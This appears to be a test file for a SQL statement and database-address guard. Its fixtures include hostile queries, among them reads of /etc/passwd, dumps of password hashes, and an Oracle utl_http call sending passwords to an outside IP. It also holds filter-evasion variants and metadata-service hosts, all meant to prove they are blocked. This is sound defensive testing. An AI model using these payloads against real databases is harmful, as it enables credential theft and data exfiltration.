import { numberParameters } from '@/lib/engine'
import { costOf } from '@/tests/support/cost'
import { forbiddenIn } from './forbidden-functions'
import { namedParameters } from './named-parameters'
import { questionMarks } from './question-marks'
import { isReading } from './single-query'
import { checkAddress, objectionTo } from './address-guard'

describe('S9 names no statement of a designer may use', () => {
  it.each([
    `select set_config('app.tenant_id', 'default', false)`,
    `select pg_catalog.set_config('a', 'b', false)`,
    `select "set_config"('a', 'b', false)`,
    `select PG_Terminate_Backend (1)`,
    `select pg_cancel_backend/* x */(1)`,
    'select pg_advisory_lock(1)',
    'select pg_try_advisory_xact_lock(1)',
    `select * from dblink('x', 'y') as t(a int)`,
    'select lo_export(1, $1)',
    `select pg_read_file('/etc/passwd')`,
    `select pg_ls_dir('.')`,
    `select query_to_xml('select pg_terminate_backend(1)', true, true, '')`,
    `select E'\\'', set_config('a', 'b', false) --'`,
    `select U&"\\0073et_config"('a', 'b', false)`,
    'select rolpassword from pg_authid',
    'select * from pg_catalog."pg_shadow"',
    `select 'it''s', pg_notify('a', 'b')`,
    `select $x$'$x$, pg_reload_conf()`,
  ])('are found: %s', (statement) => expect(forbiddenIn(statement, 'postgres')).not.toBe(''))

  it.each([
    'select lo_rate, set_config from prices',
    `select 'pg_terminate_backend(1)' as told`,
    'select id from t -- set_config(',
    'select count(*) from /* dblink( */ t',
    `select $$set_config('a')$$ as text`,
    `select "lo_create" from t`,
  ])('are not found where they are no call: %s', (statement) => expect(forbiddenIn(statement, 'postgres')).toBe(''))

  it.each([
    `select utl_http.request('http://10.0.0.1/' || pw) from accounts`,
    `select UTL_HTTP . request('http://x') from dual`,
    `select sys."UTL_INADDR".get_host_address('x.example.com') from dual`,
    `select utl_tcp/* x */.open_connection('h', 80) from dual`,
    `select httpuritype('http://10.0.0.1/').getclob() from dual`,
    `select sys.HttpUriType ('http://x') from dual`,
    `select urifactory.geturi('http://x') from dual`,
    `select dbms_pipe.receive_message('a', 3600) from dual`,
    `select dbms_lock.request(1) from dual`,
    `select dbms_xmlgen.getxml('select * from sys.user$') from dual`,
    `select dbms_xmlquery.getxml('select 1 from dual') from dual`,
    `select dbms_ldap.init('10.0.0.1', 389) from dual`,
    `select bfilename('DIR', 'passwd') from dual`,
    `select ctxsys.drithsx.sn(1, 'select 1 from dual') from dual`,
    `select q'[']', utl_http.request('http://x') from dual`,
    `select nq'!'!', utl_http.request('http://x') from dual`,
    `select password from sys.user$`,
    `select passwordx from sys."LINK$"`,
  ])('are found in a statement of Oracle: %s', (statement) => expect(forbiddenIn(statement, 'oracle')).not.toBe(''))

  it.each([
    'select utl_http, dbms_pipe from prices',
    `select 'utl_http.request(1)' as told from dual`,
    `select q'[utl_http.request('x')]' as told from dual`,
    'select id from t -- dbms_pipe.receive_message(',
    'select dbms_lob.substr(note, 100, 1), utl_raw.cast_to_raw(name) from t',
    `select t.id, to_char(t.at, 'YYYY') from "orders" t where t.no = :p1`,
  ])('are not found where Oracle calls none: %s', (statement) => expect(forbiddenIn(statement, 'oracle')).toBe(''))

  it('are known of SQL Server', () => {
    for (const statement of [
      `select * from openrowset('SQLNCLI', 'h', 'select 1')`,
      `select * from sys.fn_get_audit_file('\\\\10.0.0.1\\x', null, null)`,
      `select * from [sys].[fn_xe_file_target_read_file] ('\\\\h\\x', null, null, null)`,
      `select * from sys.dm_os_enumerate_filesystem('C:\\', '*')`,
      'select password_hash from master.sys.sql_logins',
    ])
      expect({ statement, found: forbiddenIn(statement, 'sqlserver') !== '' }).toEqual({ statement, found: true })
    for (const statement of [
      `select [fn_dblog], 'openrowset(' from #prices -- xp_cmdshell(`,
      'select count(*) from orders where no = @p1',
    ])
      expect({ statement, found: forbiddenIn(statement, 'sqlserver') }).toEqual({ statement, found: '' })
  })

  it('are known of MySQL', () => {
    for (const statement of [
      `select load_file('/etc/passwd')`,
      'select get_lock("a", 10)',
      'select `get_lock`("a", 1)',
    ])
      expect(forbiddenIn(statement, 'mysql')).not.toBe('')
    expect(forbiddenIn(`select 'get_lock(1)', get_lock from t # get_lock(`, 'mysql')).toBe('')
  })
})

describe('R11 a statement', () => {
  const filled = (one: string) => one.repeat(50_000 / one.length)
  it.each([
    ['brackets', filled('[')],
    ['escapes', filled(`'\\`)],
    ['quotes of Oracle', filled(`q'[a`)],
    ['quotes of its own', Array.from({ length: 12_000 }, (_, at) => `q'${String.fromCharCode(1000 + at)}`).join('')],
    ['names in quotes', filled(`["`)],
    ['escaped names', filled(`"\\`)],
    ['texts with escapes', filled(`e'\\\\`)],
    ['comments', filled('/*')],
    ['dollars', Array.from({ length: 7000 }, (_, at) => `$a${at}$`).join('')],
  ])('as long as one may be is looked through in one go, whatever stays open in it: %s', async (_what, text) => {
    for (const dialect of ['postgres', 'mysql', 'sqlserver', 'oracle'] as const) {
      const cost = await costOf(() => {
        forbiddenIn(text, dialect)
        isReading(text, dialect)
        questionMarks(text, [])
        namedParameters(text, [], ':')
        numberParameters(text)
      })
      expect(cost).toBeLessThan(8)
    }
  })
})

describe('S9 addresses of databases', () => {
  it('name no files, sockets or settings of the driver', () => {
    for (const url of [
      'postgres://a@h/d?host=/var/run/postgresql',
      'postgres://a@h/d?sslrootcert=/etc/passwd',
      'postgres://a@h/d?options=-c%20default_transaction_read_only%3Doff',
      'postgres:///d',
      'postgres://a@h/d?statement_timeout=0',
      'mysql://a@h/d?multipleStatements=true',
      'mysql://a@h/d?socketPath=/run/mysqld/mysqld.sock',
      'mariadb://a@h/d?host=169.254.169.254',
    ])
      expect({ url, refused: objectionTo(url) !== '' }).toEqual({ url, refused: true })
    for (const url of [
      'postgres://a:b@h:5432/d?sslmode=require',
      'postgresql://h/d?options=-c%20search_path%3Dsales',
      'mysql://a@h/d',
      'mysql://a@h/d?charset=utf8mb4',
    ])
      expect(objectionTo(url)).toBe('')
  })

  it('lead to no place a database cannot stand at, however it is written', async () => {
    for (const host of [
      '169.254.169.254',
      '[fe80::1]',
      '0.0.0.0',
      '[::ffff:169.254.169.254]',
      '224.0.0.1',
      '255.255.255.255',
      '169%2e254.169.254',
      '%31%36%39.254.169.254',
    ])
      await expect(checkAddress(`postgres://a@${host}/d`, [])).rejects.toThrow('may not be called')
    for (const host of ['10.1.2.3', '192.168.0.9', '127.0.0.1', '[fd00::5]'])
      await expect(checkAddress(`mysql://a@${host}/d`, [])).resolves.toBeUndefined()
  })
})
